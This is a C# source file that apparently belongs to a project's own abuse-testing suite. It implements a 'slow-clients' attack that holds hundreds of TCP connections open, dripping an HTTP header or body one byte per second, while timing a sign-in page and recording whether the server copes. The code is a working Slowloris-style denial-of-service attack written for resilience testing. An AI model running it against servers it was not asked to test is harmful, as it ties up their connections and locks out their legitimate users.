using System.Globalization;
using System.Net.Sockets;
using Keyback.Abuse.Kit;

namespace Keyback.Abuse.Attacks;

/// <summary>Many connections that send or read one byte at a time, to keep the server busy with nobody.</summary>
internal sealed class SlowClients : Attack
{
    /// <inheritdoc/>
    public override string Name => "slow-clients";

    /// <inheritdoc/>
    public override string Threatens => "I9";

    /// <inheritdoc/>
    public override bool NeedsNoTruth => true;

    /// <inheritdoc/>
    public override async Task PlayAsync(Arena arena, Findings findings)
    {
        var url = await arena.UrlAsync();
        var count = arena.Size(300, 60);
        var seconds = arena.Size(45, 8);
        var head = $"POST /forgot HTTP/1.1\r\nHost: {url.Authority}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000\r\n\r\n";
        using var end = new CancellationTokenSource(TimeSpan.FromSeconds(seconds));
        var slow = Enumerable.Range(0, count)
            .Select(number => HoldAsync(url, number % 2 == 0 ? "" : head, number % 2 == 0 ? head : new string('x', 10_000), end.Token))
            .ToArray();

        using var visitor = arena.Stranger(url);
        List<double> times = [];
        List<Answer> answers = [];
        while (!end.IsCancellationRequested)
        {
            var answer = await visitor.GetAsync("/sign-in");
            times.Add(answer.Milliseconds);
            answers.Add(answer);
            await Task.Delay(100);
        }

        var cut = (await Task.WhenAll(slow)).Count(wasCut => wasCut);
        times.Sort();
        findings.Add(
            $"{count} connections that send a header or a body byte by byte for {seconds} seconds",
            count,
            $"the server closed {cut}",
            cut >= (arena.IsQuick ? count / 2 : count)); // headers may take thirty seconds
        findings.Add(
            "the sign-in page for everybody else meanwhile",
            answers.Count,
            string.Create(CultureInfo.InvariantCulture, $"median {times[times.Count / 2]:F0} ms, slowest {times[^1]:F0} ms; {Answer.Count(answers)}"),
            answers.TrueForAll(answer => answer.Status == 200) && times[times.Count / 2] < 1000);
    }

    // Whether the server closed the connection before we did.
    private static async Task<bool> HoldAsync(Uri url, string atOnce, string slowly, CancellationToken end)
    {
        using var client = new TcpClient { NoDelay = true };
        try
        {
            await client.ConnectAsync(url.Host, url.Port, end);
            var stream = client.GetStream();
            await stream.WriteAsync(RawSocket.Bytes(atOnce), end);
            return await await Task.WhenAny(EndsAsync(stream, end), DripsAsync(stream, slowly, end)) && !end.IsCancellationRequested;
        }
        catch (Exception error) when (error is IOException or SocketException or OperationCanceledException)
        {
            return !end.IsCancellationRequested;
        }
    }

    // An answer that comes before the request is whole is as good as a close.
    private static async Task<bool> EndsAsync(NetworkStream stream, CancellationToken end)
    {
        var buffer = new byte[4096];
        while (await stream.ReadAsync(buffer, end) > 0)
        {
        }

        return true;
    }

    private static async Task<bool> DripsAsync(NetworkStream stream, string slowly, CancellationToken end)
    {
        foreach (var one in RawSocket.Bytes(slowly))
        {
            await stream.WriteAsync(new[] { one }, end);
            await Task.Delay(1000, end);
        }

        return false;
    }
}
